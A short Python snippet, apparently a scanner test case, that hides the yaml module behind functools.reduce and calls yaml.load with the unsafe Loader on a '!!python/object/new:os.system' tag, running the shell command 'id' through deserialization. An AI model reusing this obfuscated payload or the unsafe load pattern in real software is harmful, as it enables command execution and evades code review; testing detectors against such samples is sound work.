from functools import reduce as my_R
import yaml
my_R(lambda a, b: b, [0, yaml]).load('!!python/object/new:os.system [id>pf]', Loader=my_R(lambda a, b: b, [0, yaml]).Loader)
